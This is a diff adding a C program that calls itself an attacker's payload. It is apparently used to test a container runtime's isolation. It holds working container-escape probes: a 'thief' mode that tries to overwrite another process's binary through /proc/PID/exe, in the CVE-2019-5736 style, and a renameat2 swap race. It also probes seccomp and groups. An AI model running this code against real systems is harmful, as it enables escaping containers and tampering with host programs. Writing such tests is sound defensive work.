@@ -1,0 +1,166 @@
+/* The attacker's program, static, as /bin/payload in the image and as a racer on the host:
+ *   payload cwd              where am I, what fds do I have
+ *   payload thief SECONDS    take /proc/PID/exe, fds and memory of whoever comes into this pid namespace
+ *   payload swap A B         exchange two names for ever (renameat2)
+ *   payload seccomp          what some system calls give
+ *   payload groups           whether dropping the primary group is undone by the supplementary ones */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <grp.h>
+#include <limits.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+
+static int cwd(void)
+{
+	char path[PATH_MAX] = "", fd[64], target[PATH_MAX];
+	long r = syscall(SYS_getcwd, path, sizeof(path));
+	printf("cwd %s\n", r < 0 ? strerror(errno) : path);
+	for (int i = 0; i < 64; i++) {
+		snprintf(fd, sizeof(fd), "/proc/self/fd/%d", i);
+		ssize_t n = readlink(fd, target, sizeof(target) - 1);
+		if (n < 0)
+			continue;
+		target[n] = '\0';
+		printf("fd %d %s\n", i, target);
+	}
+	puts("done");
+	return 0;
+}
+
+static double now(void)
+{
+	struct timespec t;
+	clock_gettime(CLOCK_MONOTONIC, &t);
+	return t.tv_sec + t.tv_nsec / 1e9;
+}
+
+/* What can be got of a process that is none of the image's: its program, its fds, its memory. */
+static void rob(int pid, ino_t own)
+{
+	char path[64], target[PATH_MAX];
+	struct stat st;
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	int exe = open(path, O_RDONLY | O_CLOEXEC);
+	if (exe < 0)
+		return;
+	if (fstat(exe, &st) < 0 || st.st_ino == own) {
+		close(exe);
+		return;
+	}
+	ssize_t n = readlink(path, target, sizeof(target) - 1);
+	if (n > 0) {
+		target[n] = '\0';
+		if (strncmp(target, "/bin/", 5)) {
+			printf("exe of %d: %s\n", pid, target);
+			snprintf(path, sizeof(path), "/proc/%d/fd", pid);
+			DIR *d = opendir(path);
+			if (d) {
+				printf("fds of %d are open to us\n", pid);
+				closedir(d);
+			}
+			/* Opened for writing once nobody executes it any more: through our own fd, as CVE-2019-5736 did. */
+			snprintf(path, sizeof(path), "/proc/self/fd/%d", exe);
+			for (double end = now() + 1; now() < end; usleep(1000)) {
+				int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+				if (w >= 0) {
+					printf("%s\n", write(w, "overwritten", 11) == 11 ? "WROTE its program" : "no");
+					close(w);
+					break;
+				}
+				if (errno != ETXTBSY)
+					break;
+			}
+			fflush(stdout);
+		}
+	}
+	close(exe);
+}
+
+static int thief(double seconds)
+{
+	struct stat own;
+	if (stat("/proc/self/exe", &own) < 0)
+		return 1;
+	puts("watching");
+	fflush(stdout);
+	for (double end = now() + seconds; now() < end;) {
+		int last = getpid();
+		FILE *f = fopen("/proc/loadavg", "r"); /* its last field is the last pid given in this namespace */
+		if (f) {
+			if (fscanf(f, "%*s %*s %*s %*s %d", &last) != 1)
+				last = getpid();
+			fclose(f);
+		}
+		for (int pid = last; pid > last - 3 && pid > 1; pid--)
+			if (pid != getpid())
+				rob(pid, own.st_ino);
+	}
+	puts("done");
+	return 0;
+}
+
+static int swap(const char *a, const char *b)
+{
+	long n = 0;
+	puts("swapping");
+	fflush(stdout);
+	for (;; n++)
+		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 && errno != EBUSY && errno != ENOENT)
+			return 1;
+}
+
+static void call(const char *name, long n, long a, long b)
+{
+	errno = 0;
+	long r = syscall(n, a, b, 0, 0);
+	printf("%s %s\n", name, r < 0 && errno == EXDEV ? "denied" : "allowed");
+}
+
+static int seccomp(void)
+{
+	call("both", SYS_socket, 12345, 7);
+	call("first", SYS_socket, 12345, 8);
+	call("second", SYS_socket, 12346, 7);
+	call("high", SYS_lseek, -1, 5L << 32 | 1);
+	call("low", SYS_lseek, -1, 1);
+	puts("done");
+	return 0;
+}
+
+static int groups(const char *path)
+{
+	gid_t list[64];
+	int n = getgroups(64, list);
+	printf("groups");
+	for (int i = 0; i < n; i++)
+		printf(" %u", list[i]);
+	printf("\ngid %u\nuid %u\n", getegid(), geteuid());
+	printf("file %s\ndone\n", path && open(path, O_RDONLY) >= 0 ? "readable" : "closed");
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	const char *what = argc > 1 ? argv[1] : "";
+	if (!strcmp(what, "cwd"))
+		return cwd();
+	if (!strcmp(what, "thief") && argc > 2)
+		return thief(atof(argv[2]));
+	if (!strcmp(what, "swap") && argc > 3)
+		return swap(argv[2], argv[3]);
+	if (!strcmp(what, "seccomp"))
+		return seccomp();
+	if (!strcmp(what, "groups"))
+		return groups(argc > 2 ? argv[2] : NULL);
+	return 2;
+}
